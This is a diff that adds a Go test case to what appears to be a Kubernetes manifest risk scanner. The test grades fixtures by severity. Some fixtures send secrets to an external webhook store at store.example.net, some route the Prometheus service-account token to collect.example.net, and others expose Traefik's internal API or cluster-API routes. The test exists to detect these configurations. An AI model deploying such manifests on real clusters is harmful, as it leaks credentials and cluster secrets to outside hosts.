@@ -125,3 +125,49 @@ func TestOwnKindsHaveAnActor(t *testing.T) {
 		{"the order in the operator's own package", cleanups + order + "---\n" + holding("app", "op", "", "kyverno.io|clustercleanuppolicies/status|update"), "order-deletes", ""},
 	})
 }
+
+// Orders are joined with where they point.
+func TestOrdersAreJoinedWithTheirTargets(t *testing.T) {
+	const (
+		token   = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+		outside = "---\n{apiVersion: external-secrets.io/v1, kind: ClusterSecretStore, metadata: {name: s}, spec: {provider: {webhook: {url: 'https://store.example.net/x'}}}}\n"
+	)
+	push := func(namespace string) string {
+		return "{apiVersion: external-secrets.io/v1alpha1, kind: PushSecret, metadata: {name: p, namespace: " + namespace + "}, spec: {secretStoreRefs: [{kind: ClusterSecretStore, name: s}], selector: {secret: {selector: {}}}}}\n"
+	}
+	monitor := func(more string) string {
+		return custom("monitoring.coreos.com/v1", "ServiceMonitor", "endpoints: [{port: web, bearerTokenFile: "+token+more+"}]")
+	}
+	route := func(more string) string {
+		return custom("traefik.io/v1alpha1", "IngressRoute", "routes: [{kind: Rule, match: \"PathPrefix(`/`)\", services: [{kind: TraefikService, name: api@internal}]"+more)
+	}
+	virtual := func(host string) string {
+		return custom("networking.istio.io/v1", "VirtualService", "hosts: [web.example.com], http: [{route: [{destination: {host: "+host+"}}]}]")
+	}
+	endpoints := "---\n{apiVersion: discovery.k8s.io/v1, kind: EndpointSlice, metadata: {name: e, namespace: app}, endpoints: [{addresses: [203.0.113.7]}]}\n"
+	volume := func(attributes string) string {
+		return pod("volumes: [{name: v, csi: {driver: csi.sharedresource.openshift.io, readOnly: true, volumeAttributes: {"+attributes+"}}}], ", "image: 'c@sha256:00'")
+	}
+	testPrinciples(t, []principle{
+		{"Secrets of kube-system to a store of the package", push("kube-system") + outside, "order-exports", preview.Critical},
+		{"Secrets of others to a store of the package", push("shop") + outside, "order-exports", preview.Critical},
+		{"Secrets of the release to it", push("app") + outside, "order-exports", preview.Warning},
+		{"Secrets of others to a store that the cluster has", push("shop"), "order-exports", preview.Warning},
+		{"the token of Prometheus to another host", monitor(", relabelings: [{targetLabel: __address__, replacement: 'collect.example.net:443'}]"), "order-monitors", preview.Critical},
+		{"by way of a proxy", monitor(", proxyUrl: 'https://collect.example.net'"), "order-monitors", preview.Critical},
+		{"by a host that begins with a label", monitor(", relabelings: [{targetLabel: __address__, replacement: '${1}.collect.example.net'}]"), "order-monitors", preview.Critical},
+		{"by endpoints of the package outside of the cluster", monitor("") + endpoints, "order-monitors", preview.Critical},
+		{"the token of an agent to another host", custom("operator.victoriametrics.com/v1beta1", "VMStaticScrape", "targetEndpoints: [{targets: ['collect.example.net:443'], bearerTokenFile: "+token+"}]"), "order-monitors", preview.Critical},
+		{"the token of Prometheus to another port", monitor(", relabelings: [{targetLabel: __address__, replacement: '$1:9100'}]"), "order-monitors", preview.Info},
+		{"a Service of the cluster", monitor(", relabelings: [{targetLabel: __address__, replacement: 'metrics.app.svc:443'}]"), "order-monitors", preview.Info},
+		{"another host without a token", custom("monitoring.coreos.com/v1", "ServiceMonitor", "endpoints: [{port: web, relabelings: [{targetLabel: __address__, replacement: 'collect.example.net:443'}]}]"), "order-monitors", ""},
+		{"the API of the proxy for every host", route("}]"), "order-traffic", preview.Critical},
+		{"the API of the proxy on its own port", route("}], entryPoints: [traefik]"), "order-traffic", preview.Warning},
+		{"the API of the proxy behind a login", route(", middlewares: [{name: auth}]}]"), "order-traffic", preview.Warning},
+		{"an API of the cluster", virtual("kubernetes.default.svc.cluster.local"), "order-traffic", preview.Critical},
+		{"a Service of kube-system", virtual("kubernetes-dashboard.kube-system"), "order-traffic", preview.Critical},
+		{"a Service of the release", virtual("web.app.svc.cluster.local"), "order-traffic", preview.Warning},
+		{"a Secret of another namespace", volume("sharedSecret: pull"), "pod-volume-address", preview.Critical},
+		{"a ConfigMap of another namespace", volume("sharedConfigMap: trust"), "pod-volume-address", preview.Warning},
+	})
+}
